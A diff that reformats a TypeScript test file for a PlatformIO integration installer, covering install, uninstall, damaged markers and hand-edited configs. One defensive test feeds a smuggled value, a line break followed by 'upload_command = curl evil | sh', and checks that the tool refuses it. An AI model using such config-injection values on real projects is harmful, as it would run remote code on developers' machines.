@@ -5,7 +5,15 @@ import { join } from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
 import { initCommand } from '../../../src/cli/init';
 import { envOption, parseIni, splitMultiValue } from '../../../src/core/platformio/ini';
-import { type InstallOptions, InstallOptionError, installIntegration, integrationLeftovers, isInstalled, removeIntegration, uninstallIntegration } from '../../../src/core/platformio/install';
+import {
+  type InstallOptions,
+  InstallOptionError,
+  installIntegration,
+  integrationLeftovers,
+  isInstalled,
+  removeIntegration,
+  uninstallIntegration,
+} from '../../../src/core/platformio/install';
 import { hookScriptText } from '../../../src/core/platformio/integration';
 
 // Debian's python3 starts much faster than a version-manager shim.
@@ -22,7 +30,12 @@ const CASES: { file: string; env: string }[] = [
   { file: 'c3-own-extra-scripts.ini', env: 'native' },
 ];
 
-const opts = (env: string, more: Partial<InstallOptions> = {}): InstallOptions => ({ env, libs: ['TinyClassifier', 'ImageFilters'], storage: 'sd', ...more });
+const opts = (env: string, more: Partial<InstallOptions> = {}): InstallOptions => ({
+  env,
+  libs: ['TinyClassifier', 'ImageFilters'],
+  storage: 'sd',
+  ...more,
+});
 
 /** What PlatformIO would read: Python's configparser with `#` and `;` inline comments, as platformio/project/config.py builds it. */
 function pythonRead(text: string, section: string, option: string): string {
@@ -66,7 +79,14 @@ describe('install / uninstall on real-world-shaped platformio.ini files', () => 
       // configparser agrees (no duplicate options, block parses as PlatformIO reads it).
       expect(pythonRead(installed, `env:${env}`, 'custom_mm_libs')).toBe('TinyClassifier, ImageFilters');
       const py = pythonRead(installed, `env:${env}`, 'extra_scripts');
-      if (py !== '<none>') expect(py.split(/[\n,]/).map((s) => s.trim()).filter(Boolean).pop()).toBe('post:memory_manager.py');
+      if (py !== '<none>')
+        expect(
+          py
+            .split(/[\n,]/)
+            .map((s) => s.trim())
+            .filter(Boolean)
+            .pop(),
+        ).toBe('post:memory_manager.py');
     });
   }
 
@@ -123,7 +143,9 @@ describe('esp32mm init', () => {
     const dir = newDir();
     const original = read('windows-crlf.ini');
     writeFileSync(join(dir, 'platformio.ini'), original);
-    const code = await quiet(() => initCommand.run([dir], { libs: 'TinyClassifier,ImageFilters', storage: 'littlefs', slot: ['ai:TinyClassifier,ImageFilters'] }));
+    const code = await quiet(() =>
+      initCommand.run([dir], { libs: 'TinyClassifier,ImageFilters', storage: 'littlefs', slot: ['ai:TinyClassifier,ImageFilters'] }),
+    );
     expect(code).toBe(0);
     const script = readFileSync(join(dir, 'memory_manager.py'), 'utf8');
     expect(script).toContain('env.AddPostAction(elf');
@@ -134,7 +156,9 @@ describe('esp32mm init', () => {
     expect(ini).toContain('custom_mm_slots = ai: TinyClassifier ImageFilters\r\n');
     expect(ini).toContain('custom_mm_storage = littlefs\r\n');
     // Again: same bytes.
-    await quiet(() => initCommand.run([dir], { libs: 'TinyClassifier,ImageFilters', storage: 'littlefs', slot: ['ai:TinyClassifier,ImageFilters'] }));
+    await quiet(() =>
+      initCommand.run([dir], { libs: 'TinyClassifier,ImageFilters', storage: 'littlefs', slot: ['ai:TinyClassifier,ImageFilters'] }),
+    );
     expect(readFileSync(join(dir, 'platformio.ini'), 'utf8')).toBe(ini);
     expect(await quiet(() => initCommand.run([dir], { uninstall: true }))).toBe(0);
     expect(readFileSync(join(dir, 'platformio.ini'), 'utf8')).toBe(original);
@@ -167,7 +191,8 @@ describe('esp32mm init', () => {
 
 describe('hostile and hand-edited platformio.ini (issue 14)', () => {
   const BASIC = read('arduino-basic.ini');
-  const hooks = (text: string, env: string) => splitMultiValue(envOption(parseIni(text), env, 'extra_scripts') ?? '').filter((s) => s === 'post:memory_manager.py').length;
+  const hooks = (text: string, env: string) =>
+    splitMultiValue(envOption(parseIni(text), env, 'extra_scripts') ?? '').filter((s) => s === 'post:memory_manager.py').length;
 
   it.each([
     ['libs', { libs: ['A\nupload_command = curl evil | sh'] }],
@@ -178,7 +203,9 @@ describe('hostile and hand-edited platformio.ini (issue 14)', () => {
     ['code', { code: 'iram\nupload_command = x' }],
   ])('refuses a line break in %s: no line of its own reaches platformio.ini', (_what, more) => {
     expect(() => installIntegration(BASIC, opts('esp32dev', more as Partial<InstallOptions>))).toThrow(InstallOptionError);
-    expect(() => installIntegration(BASIC, opts('esp32dev', more as Partial<InstallOptions>))).toThrow(/line break or another control character|cannot be used/);
+    expect(() => installIntegration(BASIC, opts('esp32dev', more as Partial<InstallOptions>))).toThrow(
+      /line break or another control character|cannot be used/,
+    );
   });
 
   it('refuses values PlatformIO would cut at a comment or expand, and library names that are not identifiers', () => {
@@ -207,7 +234,10 @@ describe('hostile and hand-edited platformio.ini (issue 14)', () => {
   it.each([
     ['[env]', '[env]\nextra_scripts = post:memory_manager.py\n\n[env:a]\nboard = esp32dev\n'],
     ['a section it extends', '[common]\nextra_scripts = post:memory_manager.py\n\n[env:a]\nextends = common\nboard = esp32dev\n'],
-    ['a ${…} reference in its own extra_scripts', '[env]\nextra_scripts = post:memory_manager.py\n\n[env:a]\nextra_scripts =\n    ${env.extra_scripts}\n    post:other.py\n'],
+    [
+      'a ${…} reference in its own extra_scripts',
+      '[env]\nextra_scripts = post:memory_manager.py\n\n[env:a]\nextra_scripts =\n    ${env.extra_scripts}\n    post:other.py\n',
+    ],
   ])('does not add a second hook when it is inherited from %s', (_from, text) => {
     const installed = installIntegration(text, opts('a'));
     expect(hooks(installed, 'a')).toBe(1);
@@ -215,11 +245,18 @@ describe('hostile and hand-edited platformio.ini (issue 14)', () => {
     expect(uninstallIntegration(installed, 'a')).toBe(text);
   });
 
-  it('writes an install path with $&, $` and $\' into memory_manager.py as it is', () => {
+  it("writes an install path with $&, $` and $' into memory_manager.py as it is", () => {
     const cli = "/opt/we$&ird/$`x/$'y/cli.js";
     const script = hookScriptText(cli);
     const line = script.split('\n').find((l) => l.startsWith('INSTALLED_CLI = '))!;
-    const r = spawnSync(PYTHON, ['-c', `import ast, sys\nsrc = sys.stdin.read()\nast.parse(src)\nexec(${JSON.stringify(line.replace(/ {2}#.*$/, ''))})\nprint(INSTALLED_CLI)`], { input: script, encoding: 'utf8' });
+    const r = spawnSync(
+      PYTHON,
+      [
+        '-c',
+        `import ast, sys\nsrc = sys.stdin.read()\nast.parse(src)\nexec(${JSON.stringify(line.replace(/ {2}#.*$/, ''))})\nprint(INSTALLED_CLI)`,
+      ],
+      { input: script, encoding: 'utf8' },
+    );
     expect(r.stderr).toBe('');
     expect(r.stdout.trim()).toBe(cli);
     const template = readFileSync(join(__dirname, '../../../firmware/extra_script/memory_manager.py'), 'utf8');
@@ -228,24 +265,39 @@ describe('hostile and hand-edited platformio.ini (issue 14)', () => {
 
   it('a deleted begin marker is an error naming the line, not "nothing to remove"', () => {
     const installed = installIntegration(BASIC, opts('esp32dev'));
-    const damaged = installed.split('\n').filter((l) => !l.startsWith('; >>> esp32mm')).join('\n');
-    expect(() => uninstallIntegration(damaged)).toThrow(/line \d+: the esp32mm block's end marker .* has no begin marker above it in \[env:esp32dev\]/);
+    const damaged = installed
+      .split('\n')
+      .filter((l) => !l.startsWith('; >>> esp32mm'))
+      .join('\n');
+    expect(() => uninstallIntegration(damaged)).toThrow(
+      /line \d+: the esp32mm block's end marker .* has no begin marker above it in \[env:esp32dev\]/,
+    );
     expect(() => installIntegration(damaged, opts('esp32dev'))).toThrow(/has no begin marker/);
   });
 
   it('with both markers deleted, the lines that still install it are found', () => {
     const installed = installIntegration(BASIC, opts('esp32dev'));
-    const bare = installed.split('\n').filter((l) => !/^; (>>>|<<<) esp32mm/.test(l)).join('\n');
+    const bare = installed
+      .split('\n')
+      .filter((l) => !/^; (>>>|<<<) esp32mm/.test(l))
+      .join('\n');
     expect(uninstallIntegration(bare)).toBe(bare);
     const left = integrationLeftovers(bare, 'esp32dev');
-    expect(left.map((l) => l.text)).toEqual(['extra_scripts = post:memory_manager.py', 'custom_mm_libs = TinyClassifier, ImageFilters', 'custom_mm_storage = sd']);
+    expect(left.map((l) => l.text)).toEqual([
+      'extra_scripts = post:memory_manager.py',
+      'custom_mm_libs = TinyClassifier, ImageFilters',
+      'custom_mm_storage = sd',
+    ]);
     expect(bare.split('\n')[left[0].line - 1]).toBe('extra_scripts = post:memory_manager.py');
     expect(integrationLeftovers(BASIC)).toEqual([]);
   });
 
   it('keeps a line someone added inside the block, and reports it with its line in the result', () => {
     const installed = installIntegration(BASIC, opts('esp32dev'));
-    const edited = installed.replace('custom_mm_storage = sd\n', 'custom_mm_storage = sd\nupload_speed = 921600 ; mine\n; a note of mine\n');
+    const edited = installed.replace(
+      'custom_mm_storage = sd\n',
+      'custom_mm_storage = sd\nupload_speed = 921600 ; mine\n; a note of mine\n',
+    );
     const { text, kept } = removeIntegration(edited);
     expect(kept.map((k) => k.text)).toEqual(['upload_speed = 921600 ; mine', '; a note of mine']);
     expect(kept.map((k) => text.split('\n')[k.line - 1])).toEqual(['upload_speed = 921600 ; mine', '; a note of mine']);
@@ -286,12 +338,20 @@ describe('esp32mm init on hand-edited projects', () => {
     const dir = project(read('arduino-basic.ini'));
     await capture(() => initCommand.run([dir], { libs: 'TinyClassifier', storage: 'sd' }));
     const ini = join(dir, 'platformio.ini');
-    const damaged = readFileSync(ini, 'utf8').split('\n').filter((l) => !l.startsWith('; >>> esp32mm')).join('\n');
+    const damaged = readFileSync(ini, 'utf8')
+      .split('\n')
+      .filter((l) => !l.startsWith('; >>> esp32mm'))
+      .join('\n');
     writeFileSync(ini, damaged);
     await expect(initCommand.run([dir], { uninstall: true })).rejects.toThrow(/has no begin marker/);
-    const bare = damaged.split('\n').filter((l) => !l.startsWith('; <<< esp32mm')).join('\n');
+    const bare = damaged
+      .split('\n')
+      .filter((l) => !l.startsWith('; <<< esp32mm'))
+      .join('\n');
     writeFileSync(ini, bare);
-    await expect(initCommand.run([dir], { uninstall: true })).rejects.toThrow(/no esp32mm block, but these lines still install the build integration:\n {2}line \d+: extra_scripts = post:memory_manager\.py/);
+    await expect(initCommand.run([dir], { uninstall: true })).rejects.toThrow(
+      /no esp32mm block, but these lines still install the build integration:\n {2}line \d+: extra_scripts = post:memory_manager\.py/,
+    );
     expect(readFileSync(ini, 'utf8')).toBe(bare);
     expect(existsSync(join(dir, 'memory_manager.py'))).toBe(true);
   });
@@ -303,7 +363,9 @@ describe('esp32mm init on hand-edited projects', () => {
     writeFileSync(ini, readFileSync(ini, 'utf8').replace('custom_mm_storage = sd\n', 'custom_mm_storage = sd\nupload_speed = 921600\n'));
     const r = await capture(() => initCommand.run([dir], { uninstall: true }));
     expect(r.code).toBe(0);
-    expect(r.err).toMatch(/this line was added inside the esp32mm block, so it is not esp32mm's and stayed:\n {2}line 16: upload_speed = 921600/);
+    expect(r.err).toMatch(
+      /this line was added inside the esp32mm block, so it is not esp32mm's and stayed:\n {2}line 16: upload_speed = 921600/,
+    );
     expect(readFileSync(ini, 'utf8')).toBe(read('arduino-basic.ini').replace('115200\n', '115200\nupload_speed = 921600\n'));
   });
 
